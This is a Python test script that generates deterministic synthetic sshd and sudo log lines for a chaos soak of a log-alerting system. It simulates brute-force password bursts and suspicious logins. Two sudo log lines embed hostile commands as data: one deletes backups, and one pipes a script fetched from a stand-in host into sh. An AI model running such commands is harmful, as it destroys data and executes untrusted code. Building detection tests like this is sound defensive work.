#!/usr/bin/env python3
"""The chaos soak's input (scripts/chaos.sh): a deterministic stream of sshd-style log lines.

    scripts/chaos-stream.py SEED COUNT > stream.tsv

One entry per line, `IDENTIFIER<TAB>PRIORITY<TAB>MESSAGE`, for scripts/chaos-writer.pl to send.
The same SEED and COUNT give the same bytes. About nine lines in ten are benign (publickey logins
from a few office addresses, session open/close, disconnects, cron, sudo apt, a health check); the
rest are attacks:
- single failed passwords from random IPv6 addresses (one alert each from the per-entry test rule,
  never ten from one address, so never a brute force);
- bursts: 10 to 14 failed passwords from one new address (IPv4 and IPv6 alternately, never reused),
  interleaved with the other lines, so the shipped sshd_brute_force correlation (10 in 10 minutes
  per SourceIp) fires exactly once per burst, often across a SIGKILL of Cordon (its state comes back
  from the checkpoint); about a third are followed by an accepted login from that address
  (sshd_login_after_brute_force; sshd_root_login for root), for one of eight users, so that the
  sshd_new_source_for_user detector holds fewer than its 1,024 addresses per user in 10 minutes
  (past them it evicts, and the state-cap warning is not the same live and replayed after a restart);
- now and then a sudo command that deletes backups or downloads and runs a script.
"""
import random
import sys

BENIGN_USERS = ["deploy", "alice", "bob", "backup"]
OFFICE = ["10.20.0.%d" % n for n in (11, 12, 13, 21, 22)]
ATTACK_USERS = ["root", "admin", "test", "oracle", "ubuntu", "postgres", "git", "user"]


def main():
    if len(sys.argv) != 3:
        sys.exit("usage: chaos-stream.py SEED COUNT")
    rng = random.Random(int(sys.argv[1]))
    count = int(sys.argv[2])
    out = sys.stdout
    bursts = []          # [address, failures left, login afterwards]
    burst_number = 0
    pid = 4000

    def port():
        return rng.randrange(30000, 65000)

    written = 0
    while written < count:
        pid = 4000 + (pid - 3999) % 30000
        roll = rng.random()
        if bursts and roll < 0.06:
            burst = bursts[rng.randrange(len(bursts))]
            if burst[1] > 0:
                burst[1] -= 1
                user = rng.choice(ATTACK_USERS)
                invalid = "" if user == "root" else "invalid user "
                line = "sshd\t5\tFailed password for %s%s from %s port %d ssh2" % (invalid, user, burst[0], port())
            else:
                bursts.remove(burst)
                if not burst[2]:
                    continue
                line = "sshd\t6\tAccepted password for %s from %s port %d ssh2" % (rng.choice(ATTACK_USERS), burst[0], port())
        elif roll < 0.0625:
            burst_number += 1
            n = burst_number
            address = ("10.%d.%d.%d" % (n >> 16 & 255, n >> 8 & 255, n & 255) if n % 2
                       else "2001:db8:b:%x::%x" % (n >> 16, n & 0xffff))
            bursts.append([address, rng.randrange(10, 15), rng.random() < 0.33])
            continue
        elif roll < 0.09:
            address = "2001:db8:a:%x:%x::%x" % (rng.randrange(65536), rng.randrange(65536), rng.randrange(1, 65536))
            user = rng.choice(ATTACK_USERS)
            invalid = "" if user == "root" else "invalid user "
            line = "sshd\t5\tFailed password for %s%s from %s port %d ssh2" % (invalid, user, address, port())
        elif roll < 0.0905:
            line = rng.choice([
                "sudo\t5\t    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/rm -rf /var/backups/archive",
                "sudo\t5\t    bob : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl -s http://203.0.113.9/x.sh | sh",
            ])
        else:
            user = rng.choice(BENIGN_USERS)
            address = rng.choice(OFFICE)
            kind = rng.randrange(8)
            if kind == 0:
                line = "sshd\t6\tAccepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%08x" % (
                    user, address, port(), rng.randrange(1 << 32))
            elif kind == 1:
                line = "sshd\t6\tpam_unix(sshd:session): session opened for user %s(uid=1000) by (uid=0)" % user
            elif kind == 2:
                line = "sshd\t6\tpam_unix(sshd:session): session closed for user %s" % user
            elif kind == 3:
                line = "sshd\t6\tReceived disconnect from %s port %d:11: disconnected by user" % (address, port())
            elif kind == 4:
                line = "sshd\t6\tConnection closed by %s port %d [preauth]" % (address, port())
            elif kind == 5:
                line = "CRON\t6\tpam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            elif kind == 6:
                line = "sudo\t5\t    %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/apt update" % (user, user)
            else:
                line = "health-app\t6\tGET /health 200 %dms" % rng.randrange(1, 40)
        out.write(line + "\n")
        written += 1


if __name__ == "__main__":
    main()
